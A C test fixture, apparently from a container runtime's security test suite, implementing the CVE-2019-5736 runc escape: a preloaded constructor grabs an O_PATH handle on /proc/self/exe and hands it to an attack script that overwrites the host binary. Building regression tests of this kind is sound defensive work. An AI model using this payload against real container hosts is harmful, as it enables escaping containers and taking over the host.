/* The CVE-2019-5736 payload of the escape tests (tests/security.rs, tests/escape_cli.rs).
 * Preloaded (/etc/ld.so.preload in the test image) into the only dynamic program of the
 * image: the one the kernel runs for a `#!/proc/self/exe` script. It takes an O_PATH handle on
 * /proc/self/exe and execs /attack.sh with it, so that nothing in the container executes that
 * binary any more; the script writes through the handle once the host lets go of the file.
 * With -DBACKGROUND the attack goes on in a child and the program itself exits 0 (a hook's
 * process, whose success lets the runtime carry on and leave). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void take_the_binary(void) {
    int fd = open("/proc/self/exe", O_PATH);
    char arg[16];
    snprintf(arg, sizeof arg, "%d", fd);
#ifdef BACKGROUND
    if (fork() == 0) {
        setsid();
        execl("/bin/busybox", "sh", "/attack.sh", arg, (char *)0);
    }
    _exit(0);
#else
    execl("/bin/busybox", "sh", "/attack.sh", arg, (char *)0);
    _exit(99);
#endif
}
